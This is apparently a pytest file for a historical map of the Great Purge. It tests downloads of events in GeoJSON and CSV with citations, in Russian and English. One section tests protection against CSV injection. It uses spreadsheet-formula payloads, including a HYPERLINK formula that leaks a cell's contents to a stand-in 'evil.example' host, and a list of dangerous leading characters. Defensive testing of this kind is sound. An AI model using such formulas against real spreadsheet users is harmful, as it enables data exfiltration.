"""Downloads of the current window: the same events the map lists, each with its citation."""

from __future__ import annotations

import csv
import functools
import io
import json
import re
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mapapp.i18n import Lang
from mapapp.model.collections import Collection
from mapapp.model.records import Event, Place
from mapapp.model.viewstate import MapState
from mapapp.webmap.download import (
    CSV_COLUMNS,
    csv_cell,
    file_stem,
    window_csv,
    window_events,
    window_geojson,
    window_summary,
)
from mapapp.webmap.mapview import Dataset, load_dataset


@pytest.fixture(scope="module")
def ds() -> Dataset:
    return load_dataset()


def test_geojson_holds_the_window_with_citations(ds: Dataset) -> None:
    state = MapState(start="1934-12", end="1934-12")
    collection = json.loads(window_geojson(ds, state))
    ids = [f["id"] for f in collection["features"]]
    assert ids == [e.id for e in window_events(ds, state)]
    assert "kirov_assassination" in ids and "butovo_shootings" not in ids
    murder = next(f for f in collection["features"] if f["id"] == "kirov_assassination")
    assert murder["geometry"]["coordinates"] == list(ds.places["smolny"].lon for _ in [0]) + [ds.places["smolny"].lat]
    assert murder["properties"]["citation"].startswith("Source: The Great Purge (Crawford, 2014), lines")
    assert collection["mapapp"]["window"] == ["1934-12-01", "1934-12-31"]
    assert "CC BY 4.0" in collection["mapapp"]["citation"]


@pytest.mark.realdata
def test_a_geojson_feature_carries_the_event_as_curated(ds: Dataset) -> None:
    """Every field of one download feature, against data/events.csv's row and places.csv's Smolny."""
    state = MapState(start="1934-12", end="1934-12", layers=("power", "killing"))
    collection = json.loads(window_geojson(ds, state))
    murder = next(f for f in collection["features"] if f["id"] == "kirov_assassination")
    assert murder["type"] == "Feature" and murder["geometry"] == {"type": "Point", "coordinates": [30.3959, 59.9463]}
    assert murder["properties"] == {
        "id": "kirov_assassination", "date": "1 Dec 1934", "start": "1934-12-01", "end": "", "approximate": False,
        "category": "assassination", "title": "Assassination of Sergei Kirov", "places": "Smolny Institute",
        "place_ids": "smolny", "latitude": 59.9463, "longitude": 30.3959,
        "people": "Sergei Kirov; Leonid Nikolaev; Joseph Stalin",
        "summary": "Kirov was shot dead in a corridor of the Smolny by Leonid Nikolaev. Stalin used the killing as "
                   "the pretext for a widening hunt for 'terrorists' among former oppositionists.",
        "note": "The source says most historians blame Stalin; this remains disputed — several archival studies "
                "conclude that Nikolaev acted alone. The gunman's name is not in the source.",
        "citation": "Source: The Great Purge (Crawford, 2014), lines 154–159, 162–164, 217"}
    assert collection["type"] == "FeatureCollection"
    assert collection["mapapp"]["window"] == ["1934-12-01", "1934-12-31"]
    assert collection["mapapp"]["layers"] == ["killing", "power"]  # the layers shown, in the legend's order
    assert collection["mapapp"]["citation"].startswith("mapapp, a map of the Great Purge. Data CC BY 4.0")


def test_csv_in_russian_has_one_row_per_event(ds: Dataset) -> None:
    state = MapState(lang="ru", start="1937-01", end="1938-12")
    rows = list(csv.DictReader(io.StringIO(window_csv(ds, state))))
    assert tuple(rows[0].keys()) == CSV_COLUMNS
    assert len(rows) == len(window_events(ds, state)) > 40
    assert all(r["citation"] for r in rows)
    assert "Бутовский полигон" in {r["places"] for r in rows}


@pytest.mark.parametrize(("lang", "note"), [
    ("en", "The source gives 17 February; the arrest was on 27 February 1937."),
    ("ru", "В источнике — 17 февраля; арест произошёл 27 февраля 1937 г."),
], ids=["en", "ru"])
def test_downloads_carry_the_note_in_the_language_of_the_map(ds: Dataset, lang: Lang, note: str) -> None:
    state = MapState(lang=lang, start="1937-02", end="1937-02")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(window_csv(ds, state)))}
    assert rows["bukharin_rykov_arrest"]["note"] == note
    features = {f["id"]: f for f in json.loads(window_geojson(ds, state))["features"]}
    assert features["bukharin_rykov_arrest"]["properties"]["note"] == note
    notes = [r["note"] for r in rows.values() if r["note"]]
    assert notes and all(bool(re.search("[а-яё]", n, re.IGNORECASE)) == (lang == "ru") for n in notes)


def test_hidden_layers_are_not_downloaded(ds: Dataset) -> None:
    state = MapState(start="1937-01", end="1938-12", layers=("nkvd",))
    events = window_events(ds, state)
    assert events and all(any(ds.layer(p) == "nkvd" for p in e.place_ids) for e in events)


@pytest.mark.parametrize(("state", "period"), [
    (MapState(start="1937-01", end="1938-12"), "Jan 1937 – Dec 1938: "),
    (MapState(start="1934-12", end="1934-12"), "Dec 1934: "),
    (MapState(lang="ru", start="1937-01", end="1938-12"), "янв. 1937 – дек. 1938: событий — "),
    (MapState(mode="asof", end="1937-08"), "Up to Aug 1937: "),
    (MapState(lang="ru", mode="asof", end="1937-08"), "По авг. 1937: событий — "),
])
def test_summary_names_the_period_and_counts_what_a_download_holds(ds: Dataset, state: MapState,
                                                                    period: str) -> None:
    text = window_summary(ds, state)
    assert text.startswith(period)
    count = len(window_events(ds, state))
    assert count > 0 and f"{count}" in text.removeprefix(period)
    assert count == len(json.loads(window_geojson(ds, state))["features"])


@pytest.mark.parametrize(("state", "stem"), [
    (MapState(), "mapapp-1934-01-1953-12"),
    (MapState(start="1937-01", end="1938-12", lang="ru"), "mapapp-1937-01-1938-12"),
    (MapState(mode="asof", end="1937-12"), "mapapp-asof-1937-12"),
])
def test_file_stem_names_the_window(state: MapState, stem: str) -> None:
    assert file_stem(state) == stem


# ---------------------------------------------------------------- CSV injection (issue 9)

#: What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection").
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def is_plain_number(cell: str) -> bool:
    """The test's own idea of a number a spreadsheet reads as a number: float() takes it, and it is made only
    of digits, a sign, a point and an exponent (no ``inf``, ``nan``, ``1_000`` or spaces)."""
    try:
        float(cell)
    except ValueError:
        return False
    return set(cell.lower()) <= set("0123456789+-.e")


@pytest.mark.parametrize(("value", "cell"), [
    ('=HYPERLINK("http://evil.example","Click")', '\'=HYPERLINK("http://evil.example","Click")'),
    ("=1+1", "'=1+1"),
    ("+7 (495) 123", "'+7 (495) 123"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-", "'-"),
    ("- a list item", "'- a list item"),
    ("-1+1", "'-1+1"),  # a sum, which a spreadsheet evaluates: not a plain number
    ("--5", "'--5"),
    ("-inf", "'-inf"),
    ("-1e", "'-1e"),
    ("-99.13", "-99.13"),  # a negative longitude stays a number
    ("-2e3", "-2e3"),  # an exponent is still a plain number
    ("+5", "+5"),
    ("-.5", "-.5"),
    ("-5.", "-5."),
    (-99.1614, "-99.1614"),
    (-1e-05, "-1e-05"),  # how Python writes a longitude of -0.00001
    ("Moscow", "Moscow"),
    ("", ""),
    ("'=already text", "'=already text"),
    (" =1", " =1"),  # a leading space makes it text already; not on OWASP's list
    ("−5", "−5"),  # U+2212 MINUS SIGN is not '-'
    ("a=b", "a=b"),
    (True, "True"),
], ids=repr)
def test_csv_cell_neutralises_formulas_but_keeps_numbers(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


@functools.cache
def kirov_assassination() -> tuple[Event, Place]:
    """A real event and its main place (read once; not a fixture, so a failing example's report stays short)."""
    ds = load_dataset()
    event = next(e for e in ds.events if e.id == "kirov_assassination")
    return event, ds.places[event.place_ids[0]]


def hostile_dataset(**texts: str) -> Dataset:
    """One real event at one real place, with ``texts`` put into the event (title_en, summary_en, note,
    citation_en) and ``place`` into the place's English name."""
    event, place = kirov_assassination()
    place = replace(place, name_en=texts.pop("place", "Smolny"))
    fields: dict[str, Any] = texts  # Event's text fields, by name
    event = replace(event, place_ids=(place.id,), coordinates=event.coordinates[:1], **fields)
    return Dataset({place.id: place}, (event,), {}, None)


@pytest.mark.parametrize("field", ["title_en", "summary_en", "note", "citation_en", "place"])
def test_a_formula_in_the_data_reaches_the_csv_as_text(field: str) -> None:
    payload = '=HYPERLINK("http://evil.example/?leak="&A1,"Read more")'
    rows = list(csv.DictReader(io.StringIO(window_csv(hostile_dataset(**{field: payload}), MapState()))))
    column = {"title_en": "title", "summary_en": "summary", "note": "note", "citation_en": "citation",
              "place": "places"}[field]
    assert len(rows) == 1
    assert rows[0][column] == "'" + payload


def test_every_cell_is_quoted_so_a_semicolon_cannot_start_a_new_cell() -> None:
    text = window_csv(hostile_dataset(title_en="Kirov;=1+1"), MapState())
    header, row = text.splitlines()
    assert header.startswith('"id","date","start",')
    assert '"Kirov;=1+1"' in row.split(",")
    assert row.startswith('"kirov_assassination",')


def test_negative_longitudes_stay_numbers_in_the_real_download(ds: Dataset) -> None:
    rows = list(csv.DictReader(io.StringIO(window_csv(ds, MapState()))))
    west = [r for r in rows if r["longitude"].startswith("-")]
    assert west, "the real data has places west of Greenwich (Mexico City)"
    assert all(is_plain_number(r["longitude"]) and float(r["longitude"]) < 0 for r in west)


@settings(max_examples=200, deadline=None)
@given(st.dictionaries(st.sampled_from(["title_en", "summary_en", "note", "citation_en", "place"]),
                       st.text(alphabet=st.sampled_from(list("=+-@\t\r\n\"',;.0123456789eE aZя")), max_size=12)
                       | st.text(max_size=12), min_size=1))
def test_no_cell_starts_a_formula(texts: dict[str, str]) -> None:
    text = window_csv(hostile_dataset(**texts), MapState())
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2
    for cell in rows[1]:
        assert not cell.startswith(DANGEROUS) or is_plain_number(cell), cell
    parsed = dict(zip(rows[0], rows[1], strict=True))
    for field, column in [("title_en", "title"), ("summary_en", "summary"), ("note", "note"),
                          ("citation_en", "citation"), ("place", "places")]:
        if field in texts:  # the text survives: as it was, or behind one apostrophe
            assert parsed[column] in (texts[field], "'" + texts[field])


# --- a collection's download: the features of the window's last year, with the year's figure and the source ------

def _camps() -> Collection:
    from mapapp.webmap.mapview import load_dataset

    return load_dataset().collections[0]


@pytest.mark.parametrize(("start", "end", "year"), [("1937-01", "1938-12", 1938), ("1938-01", "1939-01", 1939),
                                                    ("1938-12", "1938-12", 1938)])
def test_collection_download_holds_the_features_of_the_windows_last_year(start: str, end: str, year: int) -> None:
    from mapapp.webmap.download import collection_csv, collection_geojson

    camps = _camps()
    state = MapState(start=start, end=end)
    doc = json.loads(collection_geojson(camps, state))
    expected = {f.id: f.value(year) for f in camps.features if year in f.year_range()}
    assert {f["id"]: (f["properties"]["value"] if f["properties"]["value_known"] else None)
            for f in doc["features"]} == expected
    assert doc["mapapp"]["year"] == year and "urbica/gulag-api" in doc["mapapp"]["citation"]
    rows = list(csv.DictReader(io.StringIO(collection_csv(camps, state))))
    assert [r["id"] for r in rows[:-2]] == [f["id"] for f in doc["features"]]
    assert rows[-1]["id"] == "source" and "Memorial" in rows[-1]["name"]


def test_collection_download_is_empty_with_its_layer_off_and_russian_in_russian() -> None:
    from mapapp.webmap.download import collection_geojson, collection_summary

    camps = _camps()
    off = MapState(layers=tuple(la for la in MapState().layers if la != "gulag"))
    assert json.loads(collection_geojson(camps, off))["features"] == []
    ru = MapState(lang="ru", start="1938-01", end="1938-12")
    doc = json.loads(collection_geojson(camps, ru))
    assert doc["mapapp"]["measure"] == "заключённых" and "Мемориал" in doc["mapapp"]["citation"]
    assert collection_summary(camps, ru).startswith("Лагерные управления ГУЛАГа, 1918–1960 — 1938: мест — ")


@pytest.mark.parametrize("lang", ["en", "ru"])
def test_every_downloaded_citation_is_in_the_language_of_the_map(ds: Dataset, lang: Lang) -> None:
    """A Russian download must not carry the English citation (issue 12's edges): each event's citation is the
    source's in that language, in the CSV and in the GeoJSON."""
    state = MapState(lang=lang, start="1934-01", end="1953-12")
    rows = list(csv.DictReader(io.StringIO(window_csv(ds, state))))
    features = json.loads(window_geojson(ds, state))["features"]
    cited = [r["citation"] for r in rows] + [f["properties"]["citation"] for f in features]
    assert len(cited) > 100
    starts = ("Источник: ", "Общеизвестные сведения") if lang == "ru" else ("Source: ", "General knowledge")
    assert [c for c in cited if not c.startswith(starts)] == []
    assert all(bool(re.search("[а-яё]", c, re.IGNORECASE)) == (lang == "ru") for c in cited)
